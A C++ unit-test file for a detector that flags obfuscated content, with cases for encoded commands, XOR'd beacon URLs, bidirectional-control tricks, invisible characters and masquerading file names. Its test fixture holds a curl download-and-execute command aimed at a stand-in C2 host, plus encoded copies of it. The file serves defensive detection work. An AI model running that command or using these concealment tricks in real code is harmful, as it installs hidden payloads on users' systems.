#include <gtest/gtest.h>

#include <random>

#include "base/base64.h"
#include "evidence/recorder.h"
#include "parse/mutants.h"

namespace examine {
const evidence::Reader& concealment();

namespace {

using namespace std::string_literals;
using namespace std::string_view_literals;
using evidence::Confidence;
using evidence::Facet;

evidence::Reading look(std::string_view text, std::string_view kind = "script/shell", std::string_view name = "x") { return evidence::read_alone(concealment(), base::bytes_of(text), kind, name); }
std::vector<evidence::Item> hidden(const evidence::Reading& r, std::string_view word) { return r.sink.all(Facet::concealment, word); }
std::string child(const evidence::Reading& r) { return r.sink.children.empty() ? "none" : r.sink.children[0].entry.name + ":" + std::string(base::text_of(r.sink.children[0].bytes)); }

std::string hex(std::string_view text) { return base::to_hex(base::bytes_of(text)); }
std::string noise(std::size_t size, unsigned seed = 1) {
  std::mt19937 random(seed);
  std::string out;
  for (std::size_t i = 0; i < size; ++i) out += static_cast<char>(random());
  return out;
}
const std::string payload = "curl -s http://c2.vendor.invalid/stage2 -o /tmp/.s && chmod +x /tmp/.s && /tmp/.s";

TEST(Concealment, Base64OfCommandsIsOpened) {
  const auto r = look("x='" + base::to_base64(payload) + "'\necho $x");
  ASSERT_EQ(hidden(r, "decoded-string").size(), 1u);
  EXPECT_EQ(hidden(r, "decoded-string")[0].confidence, Confidence::medium);
  EXPECT_EQ(hidden(r, "decoded-string")[0].attributes.at("layer"), "base64");
  EXPECT_EQ(child(r), "base64@3:" + payload);
  EXPECT_EQ(r.sink.children[0].entry.origin, artifact::Origin::decoded);
}

TEST(Concealment, Base64OverSeveralLinesAndPieces) {
  const auto encoded = base::to_base64(payload + payload);
  std::string lines, pieces;
  for (std::size_t i = 0; i < encoded.size(); i += 60) lines += encoded.substr(i, 60) + "\n", pieces += "  '" + encoded.substr(i, 60) + "' +\n";
  EXPECT_NE(child(look("base64 -d <<E\n" + lines + "E\n")).find(payload + payload), std::string::npos);
  EXPECT_NE(child(look("x = (" + pieces + "'')", "script/python")).find(payload + payload), std::string::npos);
}

TEST(Concealment, OtherLayers) {
  EXPECT_NE(child(look("x=" + hex(payload))).find(payload), std::string::npos);
  std::string escapes, numbers;
  for (const char c : payload) escapes += fmt::format("\\x{:02x}", c), numbers += fmt::format("{},", static_cast<int>(c));
  EXPECT_NE(child(look("printf '" + escapes + "'")).find(payload), std::string::npos);
  EXPECT_NE(child(look("String.fromCharCode(" + numbers + "10)", "script/javascript")).find(payload), std::string::npos);
  auto backwards = base::to_base64(payload);
  backwards = {backwards.rbegin(), backwards.rend()};
  EXPECT_NE(child(look("x='" + backwards + "'")).find(payload), std::string::npos);
  EXPECT_EQ(child(look("x='uggc://p2.iraqbe.vainyvq/k'")), "rot13@3:http://c2.vendor.invalid/x");
}

TEST(Concealment, ShortAddressIsOpened) {
  EXPECT_EQ(child(look("u=" + base::to_base64("http://c2.vendor.invalid/x") )), "base64@2:http://c2.vendor.invalid/x");
}

TEST(Concealment, WhatIsNotHiddenIsNotStated) {
  const std::string png = "\x89PNG\r\n\x1a\n" + noise(300);
  for (const auto& text : {"img = 'data:image/png;base64," + base::to_base64(png) + "'", "x='" + base::to_base64(noise(300)) + "'", "sha = " + hex(noise(32)),
                           "-----BEGIN CERTIFICATE-----\n" + base::to_base64("import os; os.system('x') and more and more and more") + "\n-----END CERTIFICATE-----\n",
                           "x='" + base::to_base64("This is an ordinary sentence that somebody has encoded for a mail, no more than that.") + "'",
                           std::string("usr/lib/python3/dist-packages/somewhere/deep/inside/the/tree/of/a/package"), "x='" + base::to_base64("{\"version\":3,\"sources\":[\"a.js\"],\"names\":[],\"mappings\":\"AAAA\"}") + "'"}) {
    const auto r = look(text, "script/python");
    EXPECT_TRUE(r.sink.items.empty()) << text;
    EXPECT_TRUE(r.sink.children.empty()) << text;
  }
}

TEST(Concealment, XoredTextWithAnyKey) {
  std::string bytes = noise(500);
  for (const char c : "\x01http://c2.vendor.invalid/beacon\x01"sv) bytes += static_cast<char>(c ^ 0x5a);
  bytes += noise(500, 2);
  const auto r = look(bytes, "elf");
  ASSERT_EQ(hidden(r, "decoded-string").size(), 1u);
  EXPECT_EQ(hidden(r, "decoded-string")[0].attributes.at("key"), "0x5a");
  EXPECT_NE(child(r).find("http://c2.vendor.invalid/beacon"), std::string::npos);
  EXPECT_TRUE(look("http://plain.vendor.invalid/ HTTP", "elf").sink.items.empty());
}

TEST(Concealment, DenseUnknownBytesAreOpaque) {
  const auto bytes = noise(20000);
  const auto r = look(bytes, "unknown");
  ASSERT_EQ(hidden(r, "encrypted-payload").size(), 1u);
  EXPECT_EQ(hidden(r, "encrypted-payload")[0].confidence, Confidence::low);
  ASSERT_EQ(r.sink.claims.size(), 1u);
  EXPECT_EQ(r.sink.claims[0].range, (base::Range{0, 20000}));
  EXPECT_TRUE(look(std::string(20000, 'x') + "\0"s.substr(0), "unknown").sink.items.empty());
  EXPECT_TRUE(look(bytes, "gzip").sink.items.empty());
}

TEST(Concealment, BidirectionalControlsInCode) {
  const auto r = look("if level != \"user\xe2\x80\xae \xe2\x81\xa6# check\xe2\x81\xa9 \xe2\x81\xa6\": pass\nx\n", "script/python");
  ASSERT_EQ(hidden(r, "mismatch").size(), 1u);
  EXPECT_EQ(hidden(r, "mismatch")[0].confidence, Confidence::medium);
  EXPECT_TRUE(look("x = '\xe2\x80\x8f\xd7\x90\xd7\x91'\n# \xe2\x81\xa7\xd7\x90\xe2\x81\xa9\n", "script/python").sink.items.empty());
  EXPECT_TRUE(look("a \xe2\x80\xae b", "text", "README").sink.items.empty());
}

TEST(Concealment, WidthlessRunCarriesBytes) {
  std::string run;
  for (int i = 0; i < 40; ++i) run += "\xf3\xa0\x84\x80";
  EXPECT_EQ(hidden(look("x = '" + run + "'", "script/javascript"), "steganography").size(), 1u);
  EXPECT_TRUE(look("x = 'a\xe2\x80\x8d" "b'", "script/javascript").sink.items.empty());
}

TEST(Concealment, LettersOfTwoScripts) {
  EXPECT_EQ(hidden(look("def ch\xd0\xb5" "ck(): pass", "script/python"), "mismatch").size(), 1u);
  EXPECT_TRUE(look("# \xd0\xbf\xd1\x80\xd0\xbe\xd0\xb2\xd0\xb5\xd1\x80\xd0\xba\xd0\xb0 check", "script/python").sink.items.empty());
}

TEST(Concealment, Names) {
  EXPECT_TRUE(look("\x7f" "ELF", "elf", "usr/bin/.helper").sink.has(Facet::concealment, "hidden-file"));
  EXPECT_TRUE(look("x", "elf", "usr/lib/... /x").sink.has(Facet::concealment, "hidden-file"));
  EXPECT_TRUE(look("x", "text", "tmp/.ICE-x").sink.has(Facet::concealment, "hidden-file"));
  EXPECT_TRUE(look("x", "pe", "photo\xe2\x80\xaegpj.exe").sink.has(Facet::concealment, "masquerade"));
  EXPECT_TRUE(look("x", "elf", "usr/bin/p\xd1\x83thon").sink.has(Facet::concealment, "masquerade"));
  for (const auto name : {"usr/lib/node_modules/a/.eslintrc.js", "src/.gitignore", "usr/share/doc/a/.htaccess", "etc/skel/.bashrc", "usr/share/\xd0\xbf\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82/x", "a/b..c"})
    EXPECT_TRUE(look("x", "text", name).sink.items.empty()) << name;
}

TEST(Concealment, TruncatedAndMutated) {
  std::string text = "x='" + base::to_base64(payload) + "' \\x41\\x42 72,101,108 " + hex(payload) + " uggc://a.iraqbe \xe2\x80\xae\n";
  for (const char c : "http://x"sv) text += static_cast<char>(c ^ 7);
  for (const auto kind : {"script/shell", "unknown"}) {
    const auto try_it = [&](base::Bytes b) {
      const auto r = evidence::read_alone(concealment(), b, kind);
      for (const auto& item : r.sink.items) ASSERT_LE(item.range.end(), b.size());
      for (const auto& claim : r.sink.claims) ASSERT_LE(claim.range.end(), b.size());
    };
    parse::each_truncation(base::bytes_of(text), try_it);
    parse::each_mutant(base::bytes_of(text), 1000, 9, try_it);
  }
}

}  // namespace
}  // namespace examine
